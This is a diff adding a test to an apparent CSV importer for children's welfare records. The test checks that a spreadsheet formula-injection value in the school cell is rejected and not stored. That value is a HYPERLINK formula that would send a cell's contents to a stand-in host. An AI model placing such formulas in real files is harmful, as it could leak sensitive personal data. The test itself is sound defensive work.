@@ -308,3 +308,14 @@ def test_education_cannot_declare_a_child_de_facto_unsupported_without_dated_con
     batch = run(write_csv(tmp_path / "a.csv", [stated]), source="education", actor=admin_a)
     assert batch.counts["rejected"] == 1 and "父母情形" in batch.rejections.get().reason
     assert Child.objects.count() == 0
+
+
+def test_a_formula_payload_in_a_cell_is_rejected_with_the_cell_named_and_nothing_stored(
+    tree, admin_a, tmp_path
+):
+    payload = row(1, tree.village_a1, school='=HYPERLINK("http://x.example/?"&A1,"点击")')
+    batch = run(write_csv(tmp_path / "a.csv", [payload, row(2, tree.village_a1)]), actor=admin_a)
+    assert batch.counts["created"] == 1 and batch.counts["rejected"] == 1
+    rejection = batch.rejections.get()
+    assert rejection.column == "就读学校" and "公式" in rejection.reason
+    assert not Child.objects.filter(school__startswith="=").exists()
